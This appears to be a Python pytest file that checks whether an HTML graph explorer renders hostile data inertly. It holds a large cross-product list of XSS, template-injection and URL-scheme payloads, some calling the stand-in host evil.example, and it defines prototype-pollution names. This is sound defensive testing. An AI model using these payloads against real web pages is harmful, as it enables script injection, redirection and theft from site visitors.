"""Labels, names, texts and addresses that attack the page: all of them must be inert."""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from levergraph.viz import explore
from viz_world import HEAD, SMALL, store

ACTIONS = [
    "alert(1)",
    "window.hit=1",
    "fetch('//evil.example')",
    "location='//evil.example'",
    "document.body.textContent=''",
]
WRAPPERS = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</SCRIPT ><sCrIpT>{}</sCrIpT>",
    "<!--<script>{}//-->",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<style>@import '//evil.example/{}'</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<base href=//evil.example/{}>",
    "<form action=//evil.example><button autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></table><mglyph><style><img src=x onerror={}>",
    "{{{{ ''.__class__ }}}}{}",
    "{{% raw %}}{}",
    "${{{}}}",
    "`;{};`",
    "');{};//",
    '");{};//',
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "]]><script>{}</script>",
    "\u2028{}\u2029",
    "\u202e{}\u202c",
    "<b onmouseover={}>bold</b>",
    "\x0b\x0c<script\x0c>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "*{}* _x_ <code>{}</code>",
    "<x onclick={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "__proto__ {}",
]
PAYLOADS = [wrapper.replace("{}", "{0}").format(action) for wrapper, action in product(WRAPPERS, ACTIONS)]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\\tscript:alert(1)",
    "\\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:null/1",
    "//evil.example/x",
    "ftp://evil.example/x",
    "http://",
    'https://example.org/\\"onmouseover=alert(1)',
    "",
]
NAMES = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "n0",
    "data",
    "a'b",
    "a%22b",
    "%3Cscript%3E",
]


def literal(text: str) -> str:
    return json.dumps(text, ensure_ascii=True)


def attack() -> str:
    """Each payload as a label, a definition, a mechanism, a note, a source's title or a word of doubt."""
    lines = [HEAD]
    for place, payload in enumerate(PAYLOADS):
        said = literal(payload)
        lines.append(
            f"<lever/p{place}> a lg:SoftPower ; skos:prefLabel {said} ; skos:definition {said} ; "
            f"skos:note {said} ; lg:source <source/p{place}> ; lg:basis lg:CodedByUs ; lg:basisNote {said} ; "
            f"lg:sourceDate {said} ; lg:locator {said} ; lg:verification lg:Recalled ; "
            f"lg:verificationNote {said} .\n"
            f"<source/p{place}> a lg:Source ; skos:prefLabel {said} ; lg:url {said} .\n"
            f"<effect/p{place}> a lg:LeverEffect ; skos:prefLabel {said} ; lg:cause <lever/p{place}> ; "
            f"lg:target <determinant/access> ; lg:mechanism {said} ; lg:polarity {said} ; "
            f"lg:strength {said} ; lg:source <source/p{place}> .\n"
            f"<effect/q{place}> a lg:LeverEffect ; skos:prefLabel {said} ; lg:cause <lever/p{place}> ; "
            f"lg:target <determinant/access> ; lg:mechanism {said} ; lg:polarity lg:Increases ; "
            f"lg:strength lg:Weak ; lg:source <source/p{place}> ."
        )
    for place, address in enumerate(ADDRESSES):
        lines.append(
            f'<source/a{place}> a lg:Source ; skos:prefLabel "Address {place}" ; lg:url "{address}" .\n'
            f'<lever/a{place}> a lg:SoftPower ; skos:prefLabel "Address {place}" ; '
            f'lg:source <source/a{place}> ; lg:legislation "{address}"^^xsd:anyURI .'
        )
    for name in NAMES:
        lines.append(
            f"<lever/{name}> a lg:SoftPower ; skos:prefLabel {literal(name)} ; lg:source <source/{name}> ."
            f"<source/{name}> a lg:Source ; skos:prefLabel {literal(name)} ."
            f"<outcome/{name}> a lg:Outcome ; skos:prefLabel {literal(name)} ; lg:outcomeKind <{name}> ."
        )
    return "\n".join(lines)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return explore(store(SMALL, attack()), tmp_path_factory.mktemp("attacked") / "attacked.html")


# What the page's own parts may add to it; anything else came from the data.
OWN_ELEMENTS = [
    *("html", "head", "meta", "link", "title", "style", "script", "noscript", "body", "header", "main"),
    *(
        "section",
        "footer",
        "div",
        "h1",
        "h2",
        "h3",
        "p",
        "time",
        "label",
        "input",
        "select",
        "option",
        "button",
    ),
    *("ul", "ol", "li", "dl", "dt", "dd", "span", "a", "b", "strong", "em", "details", "summary"),
    *(
        "fieldset",
        "legend",
        "pre",
        "table",
        "caption",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "svg",
        "path",
        "rect",
        "line",
        "canvas",
    ),
]


def is_unharmed(visit: Any) -> None:
    page = visit.page
    strange = page.evaluate(
        "own => [...document.querySelectorAll('*')].map(e => e.localName).filter(n => !own.includes(n))",
        OWN_ELEMENTS,
    )
    assert strange == []
    handlers = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
        ".filter(name => name.startsWith('on'))"
    )
    assert handlers == []
    assert page.evaluate("document.querySelectorAll('script').length") == 3
    assert page.evaluate("window.hit === undefined && ({}).polluted === undefined")
    links = page.evaluate("[...document.querySelectorAll('a[target]')].map(a => [a.protocol, a.rel])")
    assert all(protocol in ("http:", "https:") and "noopener" in rel for protocol, rel in links)
    assert visit.is_alone()


def test_there_are_at_least_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_all_payloads_listed_together_do_nothing(visit: Any, attacked: Path) -> None:
    visit = visit(attacked)
    page = visit.open("open=group/levers-across-domains")
    while page.locator("#things tfoot button").count():
        page.locator("#things tfoot button").click()
    labels = page.locator("#things tbody th").all_inner_texts()
    assert sum("evil.example" in label for label in labels) > 40
    assert len(labels) > len(PAYLOADS)
    is_unharmed(visit)


SHOW_EACH = """async ([many, view]) => {
  const titles = [];
  for (let place = 0; place < many; place += 1) {
    const moved = new Promise((done) =>
      addEventListener('hashchange', () => setTimeout(done), { once: true }));
    location.hash = `${view}&show=lever/p${place}`;
    await moved;
    titles.push(document.querySelector('#panel h2').textContent);
  }
  return titles;
}"""


def test_each_payload_shown_in_full_does_nothing(visit: Any, attacked: Path) -> None:
    visit = visit(attacked)
    page = visit.open("open=domain/transport")
    titles = page.evaluate(SHOW_EACH, [len(PAYLOADS), "open=domain/transport"])
    assert titles == PAYLOADS
    is_unharmed(visit)


def test_payloads_in_search_paths_and_neighbours_do_nothing(visit: Any, attacked: Path) -> None:
    visit = visit(attacked)
    page = visit.open()
    for word in ("script", "<img", "onerror", "{{", "javascript:"):
        page.locator("#search").fill(word)
        assert page.locator("#search-list [role=option]").count() > 1
        is_unharmed(visit)
    page.keyboard.press("Escape")
    for place in range(0, len(PAYLOADS), 11):
        view = f"view=paths&from=lever/p{place}&to=outcome/wellbeing&path=1"
        page.evaluate("view => { location.hash = view }", view)
        page.locator(".path-head").first.wait_for()
        page.evaluate("place => { location.hash = `view=around&focus=lever/p${place}&depth=2` }", place)
        page.wait_for_function("document.querySelector('#scene-title').textContent.startsWith('Around')")
    is_unharmed(visit)


@pytest.mark.parametrize("place", range(len(ADDRESSES)))
def test_only_web_addresses_become_links(visit: Any, attacked: Path, place: int) -> None:
    visit = visit(attacked)
    visit.open(f"open=group/levers-across-domains&show=lever/a{place}")
    is_unharmed(visit)


@pytest.mark.parametrize("name", NAMES)
def test_names_that_programs_use_are_names_like_any_other(visit: Any, attacked: Path, name: str) -> None:
    visit = visit(attacked)
    page = visit.open(f"view=paths&from={quote('lever/' + name)}&to={quote('outcome/' + name)}")
    assert page.locator("#panel h2").inner_text() == f"{name} → {name}"
    is_unharmed(visit)


def test_the_file_itself_holds_no_markup_from_the_data(attacked: Path) -> None:
    text = attacked.read_text(encoding="utf-8")
    assert "<img" not in text
    assert text.count("</script>") == 3
